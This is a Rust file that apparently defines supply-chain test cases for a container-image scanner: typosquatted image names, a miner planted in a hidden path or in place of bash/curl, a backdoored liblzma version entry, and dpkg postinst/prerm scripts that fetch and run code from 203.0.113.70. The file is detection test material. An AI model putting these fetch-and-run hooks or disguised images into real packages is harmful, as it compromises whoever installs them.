//! Names and packages that are not what they say.

use crate::group;
use crate::programs::miner;
use crate::shape::{Planted, Shape, malicious, suspicious};

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "supply chain",
        vec![
            malicious("imitated name on top of a hidden program", |s| {
                Planted::debian()
                    .script("usr/local/lib/.n/n", miner(s))
                    .entry(&["/usr/local/lib/.n/n"])
                    .named(s.pick(
                        "docker.io/c43602f9cc95/openjdk:0da242bd93b7f",
                        "docker.io/azurenql/nginx:latest",
                    ))
            }),
            suspicious("imitated publisher", |s| {
                Planted::debian()
                    .cmd(&["python3", "-m", "http.server"])
                    .named(s.pick("docker.io/azurenql/web:1", "ghrc.io/team/web:1"))
            }),
            malicious("program of a package replaced", |s| {
                let path = s.pick("usr/bin/bash", "usr/bin/curl");
                Planted::debian().script(path, miner(s)).entry(&[s.pick("bash", "/usr/bin/curl")])
            }),
            malicious("known backdoor in an installed library", |s| {
                let version = s.pick("5.6.1-1", "5.6.0-0.2");
                Planted::debian()
                .base(|layer| layer)
                .layer(|layer| {
                    layer.file(
                        "var/lib/dpkg/status",
                        0o644,
                        format!("Package: liblzma5\nStatus: install ok installed\nArchitecture: amd64\nSource: xz-utils\nVersion: {version}\n\n"),
                    )
                })
                .cmd(&["python3", "-m", "http.server"])
            }),
            suspicious("script of a package that fetches and runs", |s| {
                let (path, text) = s.pick(
                    (
                        "var/lib/dpkg/info/curl.postinst",
                        "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then curl -s http://203.0.113.70/x | sh; fi\n",
                    ),
                    (
                        "var/lib/dpkg/info/cron.prerm",
                        "#!/bin/bash\nwget -q -O /tmp/y http://203.0.113.70/y && chmod +x /tmp/y && /tmp/y &\nexit 0\n",
                    ),
                );
                Planted::debian().layer(|layer| layer.file(path, 0o755, text)).cmd(&[
                    "python3",
                    "-m",
                    "http.server",
                ])
            }),
        ],
    )
}
